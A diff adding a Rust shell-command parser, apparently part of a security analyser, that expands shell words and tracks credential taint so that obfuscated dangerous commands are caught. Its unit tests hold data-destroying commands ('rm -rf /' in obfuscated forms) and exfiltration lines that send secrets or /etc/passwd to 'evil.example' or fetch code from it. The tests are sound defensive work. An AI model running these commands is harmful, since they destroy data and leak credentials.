@@ -1,0 +1,407 @@
+//! Shell parser: turns the lexer's token stream into a flat command list
+//! with expansions *performed* — this is where the dataflow lives. Every
+//! expanded word carries taint (derived from credential/env reads) and
+//! opacity (value not statically known) flags, so the passes can reason
+//! about what a sink actually receives rather than what the source text
+//! looks like.
+//!
+//! Expansion rules (mirroring POSIX closely enough to defeat the bypass
+//! corpus, conservatively where the real shell is dynamic):
+//!  * unknown variables expand to "" and are opaque; credential-shaped
+//!    names ($AWS_SECRET_..., $DB_PASSWORD) are additionally tainted;
+//!  * `$IFS` defaults to a space, so `rm${IFS}-rf` word-splits back into
+//!    `rm -rf`;
+//!  * `$(echo ...)` / `` `echo ...` `` folds to its arguments (the
+//!    classic `$(echo r)m` smuggle); any other substitution is opaque,
+//!    and tainted if the inner command reads env or credential-shaped
+//!    files;
+//!  * `NAME=value` prefixes assign into the environment with taint
+//!    propagated, so two-step smuggles (`X=/etc; rm -rf $X`) resolve.
+
+use super::lexer::{lex, Part, Tok};
+use super::policy::AnalysisPolicy;
+use std::collections::BTreeMap;
+
+/// Recursion cap for nested command substitution.
+const MAX_SUBST_DEPTH: usize = 8;
+
+#[derive(Debug, Clone, PartialEq)]
+pub struct VarVal {
+    pub value: String,
+    pub tainted: bool,
+    pub opaque: bool,
+}
+
+/// Shell-variable environment threaded through a parse.
+#[derive(Debug, Clone, Default)]
+pub struct VarEnv {
+    vars: BTreeMap<String, VarVal>,
+}
+
+impl VarEnv {
+    pub fn new() -> VarEnv {
+        let mut vars = BTreeMap::new();
+        vars.insert(
+            "IFS".to_string(),
+            VarVal { value: " ".into(), tainted: false, opaque: false },
+        );
+        VarEnv { vars }
+    }
+
+    pub fn set(&mut self, name: &str, val: VarVal) {
+        self.vars.insert(name.to_string(), val);
+    }
+
+    pub fn get(&self, name: &str) -> Option<&VarVal> {
+        self.vars.get(name)
+    }
+}
+
+/// A fully expanded word as a sink would receive it.
+#[derive(Debug, Clone, PartialEq)]
+pub struct ExpWord {
+    pub text: String,
+    /// Derived (even partially) from env/credential reads.
+    pub tainted: bool,
+    /// Value not statically known (unknown var, unfoldable substitution).
+    pub opaque: bool,
+    pub span: (usize, usize),
+}
+
+/// One simple command (one pipeline segment).
+#[derive(Debug, Clone, PartialEq)]
+pub struct Cmd {
+    pub name: ExpWord,
+    pub args: Vec<ExpWord>,
+    pub span: (usize, usize),
+}
+
+impl Cmd {
+    /// Arguments that are not `-`-prefixed flags.
+    pub fn path_args(&self) -> impl Iterator<Item = &ExpWord> {
+        self.args.iter().filter(|a| !a.text.starts_with('-'))
+    }
+}
+
+struct Frag {
+    text: String,
+    splittable: bool,
+    tainted: bool,
+    opaque: bool,
+}
+
+fn expand_part(part: &Part, env: &VarEnv, policy: &AnalysisPolicy, depth: usize) -> Frag {
+    match part {
+        Part::Lit(s) => Frag {
+            text: s.clone(),
+            splittable: false,
+            tainted: false,
+            opaque: false,
+        },
+        Part::Var { name, quoted } => match env.get(name) {
+            Some(v) => Frag {
+                text: v.value.clone(),
+                splittable: !quoted,
+                tainted: v.tainted || policy.is_credential_name(name),
+                opaque: v.opaque,
+            },
+            None => Frag {
+                text: String::new(),
+                splittable: false,
+                tainted: policy.is_credential_name(name),
+                opaque: true,
+            },
+        },
+        Part::CmdSubst { inner, quoted } => {
+            if depth >= MAX_SUBST_DEPTH {
+                return Frag {
+                    text: String::new(),
+                    splittable: false,
+                    tainted: true,
+                    opaque: true,
+                };
+            }
+            let mut sub_env = env.clone();
+            let cmds = parse_with_env(inner, &mut sub_env, policy, depth + 1);
+            // `$(echo ...)` folds to its arguments.
+            if cmds.len() == 1 && cmds[0].name.text == "echo" {
+                let c = &cmds[0];
+                return Frag {
+                    text: c
+                        .args
+                        .iter()
+                        .map(|a| a.text.as_str())
+                        .collect::<Vec<_>>()
+                        .join(" "),
+                    splittable: !quoted,
+                    tainted: c.args.iter().any(|a| a.tainted),
+                    opaque: c.args.iter().any(|a| a.opaque),
+                };
+            }
+            // Anything else is opaque; tainted if it reads secrets.
+            let tainted = cmds
+                .iter()
+                .any(|c| subst_reads_secrets(c, policy) || c.args.iter().any(|a| a.tainted));
+            Frag {
+                text: String::new(),
+                splittable: false,
+                tainted,
+                opaque: true,
+            }
+        }
+    }
+}
+
+/// Does a command inside a substitution read env/credential material?
+fn subst_reads_secrets(cmd: &Cmd, policy: &AnalysisPolicy) -> bool {
+    let name = cmd.name.text.as_str();
+    if matches!(name, "env" | "printenv" | "set") {
+        return true;
+    }
+    if matches!(
+        name,
+        "cat" | "head" | "tail" | "grep" | "awk" | "sed" | "cut" | "strings" | "base64"
+    ) {
+        return cmd.path_args().any(|a| {
+            let t = a.text.to_ascii_lowercase();
+            t.contains("passwd")
+                || t.contains("shadow")
+                || t.contains("credential")
+                || t.contains(".ssh")
+                || t.contains(".aws")
+                || t.contains("secret")
+                || t.contains("token")
+                || (a.text.starts_with('/')
+                    && !policy.path_in_sandbox(&super::normalize_path(&a.text)))
+        });
+    }
+    false
+}
+
+/// Expand one lexer word into zero or more final words (word splitting).
+fn expand_word(
+    parts: &[Part],
+    span: (usize, usize),
+    env: &VarEnv,
+    policy: &AnalysisPolicy,
+    depth: usize,
+) -> Vec<ExpWord> {
+    let mut out: Vec<ExpWord> = Vec::new();
+    let mut cur = ExpWord { text: String::new(), tainted: false, opaque: false, span };
+    let mut cur_live = false; // saw at least one (possibly empty) fragment
+
+    for part in parts {
+        let frag = expand_part(part, env, policy, depth);
+        if frag.splittable && frag.text.chars().any(|c| c == ' ' || c == '\t' || c == '\n') {
+            let leading = frag.text.chars().next().is_some_and(char::is_whitespace);
+            let trailing = frag.text.chars().last().is_some_and(char::is_whitespace);
+            let pieces: Vec<&str> = frag.text.split_whitespace().collect();
+            let mut first = true;
+            for piece in &pieces {
+                if first && !leading {
+                    cur.text.push_str(piece);
+                    cur.tainted |= frag.tainted;
+                    cur.opaque |= frag.opaque;
+                    cur_live = true;
+                } else {
+                    if cur_live && (!cur.text.is_empty() || cur.opaque) {
+                        out.push(cur.clone());
+                    }
+                    cur = ExpWord {
+                        text: piece.to_string(),
+                        tainted: frag.tainted,
+                        opaque: frag.opaque,
+                        span,
+                    };
+                    cur_live = true;
+                }
+                first = false;
+            }
+            if trailing || pieces.is_empty() {
+                if cur_live && (!cur.text.is_empty() || cur.opaque) {
+                    out.push(cur.clone());
+                }
+                cur = ExpWord { text: String::new(), tainted: false, opaque: false, span };
+                cur_live = false;
+            }
+        } else {
+            cur.text.push_str(&frag.text);
+            cur.tainted |= frag.tainted;
+            cur.opaque |= frag.opaque;
+            cur_live = true;
+        }
+    }
+    if cur_live && (!cur.text.is_empty() || cur.opaque || parts.len() == 1) {
+        // A lone quoted "" still yields an (empty) word; pure dropped
+        // expansions do not.
+        if !cur.text.is_empty() || cur.opaque || matches!(parts, [Part::Lit(_)]) {
+            out.push(cur);
+        }
+    }
+    out
+}
+
+fn ident_assign(text: &str) -> Option<(&str, &str)> {
+    let eq = text.find('=')?;
+    let name = &text[..eq];
+    if name.is_empty() || name.chars().next().is_some_and(|c| c.is_ascii_digit()) {
+        return None;
+    }
+    if !name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_') {
+        return None;
+    }
+    Some((name, &text[eq + 1..]))
+}
+
+fn parse_with_env(
+    src: &str,
+    env: &mut VarEnv,
+    policy: &AnalysisPolicy,
+    depth: usize,
+) -> Vec<Cmd> {
+    let toks = lex(src);
+    let mut cmds: Vec<Cmd> = Vec::new();
+    let mut cur: Option<Cmd> = None;
+
+    for tok in &toks {
+        match tok {
+            Tok::Sep | Tok::Pipe | Tok::AndIf | Tok::OrIf => {
+                if let Some(c) = cur.take() {
+                    cmds.push(c);
+                }
+            }
+            Tok::Word(w) => {
+                for exp in expand_word(&w.parts, w.span, env, policy, depth) {
+                    match cur.as_mut() {
+                        None => {
+                            // Leading NAME=value words are assignments.
+                            if let Some((name, value)) = ident_assign(&exp.text) {
+                                // Only when the `NAME=` prefix is literal
+                                // source text (not itself expanded).
+                                let literal_prefix = matches!(
+                                    w.parts.first(),
+                                    Some(Part::Lit(l)) if l.contains('=')
+                                        || l.len() > name.len()
+                                        || l.as_str() == name
+                                );
+                                if literal_prefix {
+                                    env.set(
+                                        name,
+                                        VarVal {
+                                            value: value.to_string(),
+                                            tainted: exp.tainted,
+                                            opaque: exp.opaque,
+                                        },
+                                    );
+                                    continue;
+                                }
+                            }
+                            cur = Some(Cmd { name: exp, args: Vec::new(), span: w.span });
+                        }
+                        Some(c) => {
+                            c.span.1 = w.span.1;
+                            c.args.push(exp);
+                        }
+                    }
+                }
+            }
+        }
+    }
+    if let Some(c) = cur.take() {
+        cmds.push(c);
+    }
+    cmds
+}
+
+/// Parse a shell source string into expanded commands. Pure: depends only
+/// on `src` and `policy`.
+pub fn parse_shell(src: &str, policy: &AnalysisPolicy) -> Vec<Cmd> {
+    let mut env = VarEnv::new();
+    parse_with_env(src, &mut env, policy, 0)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn p(src: &str) -> Vec<Cmd> {
+        parse_shell(src, &AnalysisPolicy::default())
+    }
+
+    #[test]
+    fn plain_command() {
+        let cmds = p("rm -rf /tmp/x");
+        assert_eq!(cmds.len(), 1);
+        assert_eq!(cmds[0].name.text, "rm");
+        assert_eq!(cmds[0].args[1].text, "/tmp/x");
+    }
+
+    #[test]
+    fn ifs_expansion_word_splits() {
+        let cmds = p("rm${IFS}-rf${IFS}/");
+        assert_eq!(cmds.len(), 1);
+        assert_eq!(cmds[0].name.text, "rm");
+        assert_eq!(
+            cmds[0].args.iter().map(|a| a.text.as_str()).collect::<Vec<_>>(),
+            vec!["-rf", "/"]
+        );
+    }
+
+    #[test]
+    fn quote_splitting_folds() {
+        let cmds = p("'r'\"m\" -\"r\"f /");
+        assert_eq!(cmds[0].name.text, "rm");
+        assert_eq!(cmds[0].args[0].text, "-rf");
+    }
+
+    #[test]
+    fn echo_substitution_folds() {
+        let cmds = p("$(echo rm) -rf /etc");
+        assert_eq!(cmds[0].name.text, "rm");
+        let nested = p("$(echo $(echo rm)) -rf /etc");
+        assert_eq!(nested[0].name.text, "rm");
+    }
+
+    #[test]
+    fn assignment_then_use_resolves() {
+        let cmds = p("T=/etc\nrm -rf $T");
+        assert_eq!(cmds.len(), 1);
+        assert_eq!(cmds[0].args[1].text, "/etc");
+    }
+
+    #[test]
+    fn unknown_var_is_opaque_and_credentials_taint() {
+        let cmds = p("curl -d $AWS_SECRET_ACCESS_KEY http://evil.example");
+        let arg = &cmds[0].args[1];
+        assert!(arg.opaque);
+        assert!(arg.tainted);
+        let benign = p("ls $SOMEDIR");
+        assert!(benign[0].args[0].opaque);
+        assert!(!benign[0].args[0].tainted);
+    }
+
+    #[test]
+    fn opaque_substitution_flagged() {
+        let cmds = p("$(wget http://evil.example/x) /etc");
+        assert!(cmds[0].name.opaque);
+    }
+
+    #[test]
+    fn substitution_reading_secrets_taints() {
+        let cmds = p("curl -d $(cat /etc/passwd) http://evil.example");
+        assert!(cmds[0].args[1].tainted);
+    }
+
+    #[test]
+    fn pipeline_yields_both_sides() {
+        let cmds = p("cat /tmp/a | rm -rf /");
+        assert_eq!(cmds.len(), 2);
+        assert_eq!(cmds[1].name.text, "rm");
+    }
+
+    #[test]
+    fn comments_do_not_reach_commands() {
+        let cmds = p("rm -rf / #/tmp");
+        assert_eq!(cmds[0].args.last().unwrap().text, "/");
+    }
+}
